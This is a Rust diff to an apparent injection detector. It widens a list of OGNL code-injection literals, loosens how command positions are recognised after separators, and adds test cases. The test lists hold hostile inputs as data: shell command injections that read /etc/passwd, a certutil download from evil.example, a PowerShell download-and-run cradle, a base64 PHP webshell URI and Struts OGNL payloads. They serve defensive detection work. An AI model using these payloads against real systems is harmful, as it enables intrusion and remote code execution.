@@ -182,6 +182,8 @@ const CODE_LITERALS: &[&str] = &[
     "${(#",
     "#_memberaccess",
     "ognlcontext",
+    "#context[",
+    "xwork.methodaccessor",
 ];
 
 /// How a command position was reached.
@@ -586,9 +588,9 @@ fn find_command(folded: &[u8]) -> Option<usize> {
         };
         let separator = match separator {
             Separator::Pipe if word_list => Separator::Loose,
-            // Nothing but an address or a number before it (`;id`, `127.0.0.1;id`): the value
+            // No word before it (`;id`, `127.0.0.1;id`, `*";id;"` folded to `*;id;`): the value
             // was cut for a command, not written as prose.
-            Separator::Loose if is_address_or_empty(&folded[..i]) => Separator::Pipe,
+            Separator::Loose if has_no_word(&folded[..i]) => Separator::Pipe,
             other => other,
         };
         if let Some(cmd) = command_at(folded, after, separator) {
@@ -698,11 +700,10 @@ fn numeric_argument(tail: &[u8]) -> bool {
     tail[i..i + len].contains(&b'.') || ends_command(&tail[i + len..])
 }
 
-/// True when `s` is blank, or a number or an IP address (digits, `.` and `:`) after blanks.
-fn is_address_or_empty(s: &[u8]) -> bool {
-    s.trim_ascii()
-        .iter()
-        .all(|&b| b.is_ascii_digit() || b == b'.' || b == b':')
+/// True when `s` holds no letter: blanks, digits and punctuation only (a number, an IP address,
+/// the quote that closes the string a command was written into).
+fn has_no_word(s: &[u8]) -> bool {
+    s.iter().all(|&b| b.is_ascii() && !b.is_ascii_alphabetic())
 }
 
 /// True when `value` is plain words joined by pipes (`name|id|email`, `rock | pop`), a word
@@ -824,6 +825,8 @@ mod tests {
             ";echo${IFS}vulnerable",
             ";id",
             "127.0.0.1;id",
+            "*\";id;\"",
+            "'; uname -a #",
             "& ls",
             "x;cat$IFS/etc/passwd",
             "| certutil -urlcache -split -f http://evil.example/x.exe",
@@ -865,6 +868,9 @@ mod tests {
             "template ${name} and ${count}",
             "price: $ifsc; code $IFSC",
             "Name: John; id",
+            "10:30; id card renewal",
+            "(555) 123-4567; cat food",
+            "\"Hello\"; cat videos",
             "a.b; cat",
             "name|id|email",
             "email|id",
@@ -971,6 +977,8 @@ mod tests {
             "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjbWQnXSk7ID8+",
             "IEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1')",
             "Invoke-WebRequest http://example.com/path/file.ps1",
+            "%{#context['xwork.MethodAccessor.denyMethodExecution']=false}",
+            "${#context[\"com.opensymphony.xwork2.dispatcher.HttpServletResponse\"]}",
         ] {
             assert!(fires(v).contains(&CODE_INJECTION), "missed {v:?}");
         }
